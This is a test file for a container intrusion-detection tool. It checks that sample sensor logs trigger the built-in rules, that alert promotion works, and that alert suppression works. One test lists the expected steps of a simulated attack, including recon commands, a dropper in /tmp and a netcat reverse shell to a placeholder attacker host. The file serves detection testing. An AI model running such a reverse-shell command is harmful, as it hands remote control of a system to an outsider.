import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { prisma } from "../db/client";
import { syncBuiltinRules } from "../db/rules";
import { createTestDatabase } from "../db/test-database";
import { ingestEvents } from "../ingest/ingest";
import { loadBuiltinRules } from "../rules/load";
import { SAMPLE_FORMATS, sampleFileName } from "./formats";
import { generateSamples } from "./generate";
import { ATTACKER, buildIncident } from "./incident";
import { processName } from "./model";

const database = createTestDatabase();
process.env.DATABASE_URL = database.url;
const samplesDir = path.resolve(import.meta.dirname, "..", "..", "public", "samples");

let detectionRuleIds: string[] = [];
beforeAll(async () => {
  const rules = await loadBuiltinRules();
  detectionRuleIds = rules.filter((rule) => !rule.tags.includes("Rule Type: Promotion")).map((rule) => rule.id);
  await syncBuiltinRules(rules);
});

const FALCO_ALERT = "4c50a75e-4bea-402d-87e3-3360cd924004";
const TETRAGON_HIT = "3f69c0b0-8e80-45e5-84f4-eed6cb4ad9a9";
const DATADOG_SIGNAL = "399aab98-b54e-45fb-9b5a-0e54936c37f7";
/**
 * The promotion rule that fires on each sample: its sensor alerts, and the alerts they make once repeats of one
 * sensor rule by the same command in the same container within 5 minutes are folded (the promotion rules'
 * suppression). Every line of the Falco sample is a Falco alert (Falco writes nothing else; 93 of them the
 * "Container process audit" rule), every Datadog line carries its agent rule id (201 of them the process_exec/exit
 * audit rules), and 20 Tetragon lines are kprobe hits of two TracingPolicies. The ECS sample holds no sensor alert.
 * (The Falco figure, 68, was also counted outside Keelwatch by grouping the file's rule, container.id and
 * proc.cmdline in 5-minute windows.)
 */
const PROMOTED: Record<string, Record<string, { sensorAlerts: number; alerts: number }>> = {
  ecs: {},
  falco: { [FALCO_ALERT]: { sensorAlerts: 112, alerts: 68 } },
  tetragon: { [TETRAGON_HIT]: { sensorAlerts: 20, alerts: 16 } },
  datadog: { [DATADOG_SIGNAL]: { sensorAlerts: 234, alerts: 145 } },
};
afterAll(async () => {
  await prisma().$disconnect();
  database.cleanup();
});
beforeEach(async () => {
  await prisma().alert.deleteMany();
  await prisma().event.deleteMany();
  await prisma().upload.deleteMany();
});

async function* chunks(buffer: Buffer): AsyncGenerator<Uint8Array> {
  for (let start = 0; start < buffer.length; start += 64 * 1024) yield buffer.subarray(start, start + 64 * 1024);
}

describe("sample incidents", () => {
  it("regenerating gives the committed files byte for byte", () => {
    const generated = generateSamples();
    for (const format of SAMPLE_FORMATS) {
      const committed = fs.readFileSync(path.join(samplesDir, sampleFileName(format)), "utf8");
      expect(generated[format] === committed, `${sampleFileName(format)}: run \`npm run samples\``).toBe(true);
    }
    expect(generateSamples()).toEqual(generated);
  });

  for (const format of SAMPLE_FORMATS) {
    it(`${format}: every line is accepted, every built-in detection rule fires, its sensor's alerts are promoted`, async () => {
      const file = fs.readFileSync(path.join(samplesDir, sampleFileName(format)));
      const report = await ingestEvents(chunks(file), { fileName: sampleFileName(format), format, createdById: null });
      expect(report.errors).toEqual([]);
      expect(report.events.rejected).toBe(0);
      expect(report.events.accepted).toBeGreaterThan(100);
      expect(report.format).toBe(format);
      const perRule = await prisma().alert.groupBy({ by: ["ruleId"], _count: { _all: true } });
      const counts = Object.fromEntries(perRule.map((row) => [row.ruleId, row._count._all]));
      for (const ruleId of detectionRuleIds)
        expect(counts[ruleId] ?? 0, `alerts of rule ${ruleId}`).toBeGreaterThanOrEqual(1);
      const promoted = PROMOTED[format] ?? {};
      for (const ruleId of [FALCO_ALERT, TETRAGON_HIT, DATADOG_SIGNAL]) {
        const expected = promoted[ruleId] ?? { sensorAlerts: 0, alerts: 0 };
        expect(counts[ruleId] ?? 0, `alerts of promotion rule ${ruleId}`).toBe(expected.alerts);
        // Every sensor alert is an alert or one of its folded repeats.
        const folded = await prisma().alert.aggregate({ where: { ruleId }, _sum: { suppressedCount: true } });
        expect((counts[ruleId] ?? 0) + (folded._sum.suppressedCount ?? 0), `sensor alerts of ${ruleId}`).toBe(
          expected.sensorAlerts,
        );
      }
    });
  }

  it("tells the intrusion in order: web shell, recon, DNS, dropper in /tmp, reverse shell, interactive shell", () => {
    const commands = buildIncident()
      .events.filter((event) => event.kind === "exec" && event.process.container?.name === "php-fpm")
      .map((event) => event.process.argv.join(" "));
    const milestones = [
      "sh -c id",
      "uname -a",
      `nslookup ${ATTACKER.domain}`,
      `dig +short TXT cfg.${ATTACKER.domain}`,
      "/tmp/.x/update",
      `/tmp/nc ${ATTACKER.callbackIp} ${ATTACKER.port} -e /bin/bash`,
      "bash -i",
    ];
    const positions = milestones.map((milestone) => commands.indexOf(milestone));
    expect(positions).not.toContain(-1);
    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
  });

  it("keeps the SRE's debugging noise apart: one exception on the debug image silences it, not the attack", async () => {
    const file = fs.readFileSync(path.join(samplesDir, sampleFileName("ecs")));
    const networkTool = "1a289854-5b78-49fe-9440-8a8096b1ab50";
    const report = await ingestEvents(chunks(file), {
      fileName: "with-exception",
      format: "ecs",
      createdById: null,
      exceptions: {
        items: [
          {
            id: "debug-containers",
            name: "kubectl debug sessions",
            ruleId: networkTool,
            listId: null,
            groups: [[{ field: "container.image.name", operator: "is", value: "docker.io/library/alpine" }]],
            expiresAt: null,
          },
        ],
        attachments: [],
        valueLists: new Map(),
      },
    });
    const debugTools = buildIncident().events.filter(
      (event) => event.kind === "exec" && event.process.container?.name.startsWith("debugger-"),
    );
    expect(debugTools.map((event) => processName(event.process))).toEqual(
      expect.arrayContaining(["tcpdump", "dig", "nslookup"]),
    );
    expect(report.alerts.suppressedByException).toBeGreaterThanOrEqual(4);
    const left = await prisma().alert.findMany({ where: { ruleId: networkTool }, select: { containerName: true } });
    expect(left.length).toBeGreaterThan(0);
    expect(new Set(left.map((alert) => alert.containerName))).toEqual(new Set(["php-fpm"]));
  });
});
